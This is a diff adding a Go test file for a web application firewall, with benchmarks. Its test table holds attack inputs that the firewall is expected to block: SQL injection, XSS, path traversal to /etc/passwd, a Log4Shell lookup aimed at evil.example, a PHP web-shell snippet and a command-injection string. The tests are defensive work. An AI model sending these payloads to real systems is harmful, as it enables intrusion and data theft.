@@ -1,0 +1,141 @@
+package waf
+
+import (
+	"net/http"
+	"net/netip"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+)
+
+var (
+	engineOnce sync.Once
+	engine     *Engine
+	engineErr  error
+)
+
+func testEngine(t testing.TB) *Engine {
+	t.Helper()
+	engineOnce.Do(func() { engine, engineErr = New(Config{Paranoia: 1, Threshold: 5}) })
+	if engineErr != nil {
+		t.Fatal(engineErr)
+	}
+	return engine
+}
+
+func inspect(t testing.TB, e *Engine, method, target, ctype, body string) Verdict {
+	t.Helper()
+	r, err := http.NewRequest(method, "https://api.example.com"+target, strings.NewReader(body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r.RequestURI = target
+	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")
+	r.Header.Set("Accept", "application/json")
+	if ctype != "" {
+		r.Header.Set("Content-Type", ctype)
+	}
+	v, err := e.Inspect(r, []byte(body), netip.MustParseAddrPort("198.51.100.7:40000"), netip.MustParseAddrPort("10.0.0.1:8443"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return v
+}
+
+func TestInspect(t *testing.T) {
+	e := testEngine(t)
+	tests := []struct {
+		name, method, target, ctype, body string
+		blocked                           bool
+	}{
+		{"benign_get", "GET", "/orders/42?expand=items", "", "", false},
+		{"benign_json", "POST", "/orders", "application/json", `{"item":"book","qty":2,"note":"gift wrap, please"}`, false},
+		{"sqli_query", "GET", "/orders?id=1%27%20OR%20%271%27%3D%271", "", "", true},
+		{"sqli_union_json", "POST", "/search", "application/json", `{"q":"1 UNION SELECT username, password FROM users--"}`, true},
+		{"xss_query", "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", "", true},
+		{"path_traversal", "GET", "/files?name=..%2F..%2F..%2Fetc%2Fpasswd", "", "", true},
+		{"log4shell", "GET", "/orders?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "", "", true},
+		{"php_injection", "POST", "/comments", "application/x-www-form-urlencoded", "text=<?php system($_GET['c']); ?>", true},
+		{"shell_injection", "GET", "/ping?host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd", "", "", true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			v := inspect(t, e, tt.method, tt.target, tt.ctype, tt.body)
+			if v.Blocked != tt.blocked {
+				t.Fatalf("blocked = %v, want %v (rules %v)", v.Blocked, tt.blocked, v.RuleIDs)
+			}
+			if tt.blocked && len(v.RuleIDs) == 0 {
+				t.Fatal("blocked without naming a rule")
+			}
+		})
+	}
+}
+
+func TestDetectOnlyAndExclusions(t *testing.T) {
+	if raceEnabled {
+		t.Skip("builds three engines (minutes under -race); make test runs it without -race")
+	}
+	d, err := New(Config{Detect: true, Paranoia: 1, Threshold: 5})
+	if err != nil {
+		t.Fatal(err)
+	}
+	v := inspect(t, d, "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", "")
+	if v.Blocked || !v.WouldBlock || len(v.RuleIDs) == 0 {
+		t.Fatalf("detect mode verdict %+v", v)
+	}
+	base := inspect(t, testEngine(t), "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", "")
+	x, err := New(Config{Paranoia: 1, Threshold: 5, Exclusions: append(base.RuleIDs, 949110)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if v := inspect(t, x, "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", ""); v.Blocked {
+		t.Fatalf("excluded rules still block: %+v", v)
+	}
+}
+
+// cpuTime is the process's user and system CPU time: on the shared
+// machine wall-clock ns/op mostly measures waiting for a core, cpu-ns/op
+// what an inspection costs.
+func cpuTime() time.Duration {
+	var ru syscall.Rusage
+	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
+		return 0
+	}
+	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
+}
+
+// benchInspect inspects one request per iteration with the paranoia-1
+// engine (compiled before the clock starts) and reports cpu-ns/op.
+func benchInspect(b *testing.B, method, target, ctype, body string) {
+	e := testEngine(b)
+	b.ReportAllocs()
+	b.SetBytes(int64(len(body)))
+	start, n := cpuTime(), 0
+	for b.Loop() {
+		if v := inspect(b, e, method, target, ctype, body); v.WouldBlock {
+			b.Fatalf("benign request blocked by rules %v", v.RuleIDs)
+		}
+		n++
+	}
+	b.ReportMetric(float64(cpuTime()-start)/float64(n), "cpu-ns/op")
+}
+
+// jsonOrder1K is a 1 KB JSON order, the issue's reference request.
+var jsonOrder1K = `{"customer":{"id":"c-1029","name":"Ada Lovelace","email":"ada@example.com"},"items":[` +
+	strings.Repeat(`{"sku":"BK-1001","title":"Notes on the Analytical Engine","qty":1,"price":19.99},`, 9) +
+	`{"sku":"BK-1002","title":"Sketch","qty":1,"price":9.5}],"note":"deliver after 5pm"}`
+
+func BenchmarkInspectJSON1K(b *testing.B) {
+	benchInspect(b, "POST", "/orders", "application/json", jsonOrder1K)
+}
+
+func BenchmarkInspectGET(b *testing.B) {
+	benchInspect(b, "GET", "/orders/42?expand=items", "", "")
+}
+
+func BenchmarkInspectForm1K(b *testing.B) {
+	benchInspect(b, "POST", "/orders", "application/x-www-form-urlencoded",
+		"customer=c-1029&name=Ada+Lovelace&email=ada%40example.com&note="+strings.Repeat("deliver+after+5pm+", 52))
+}
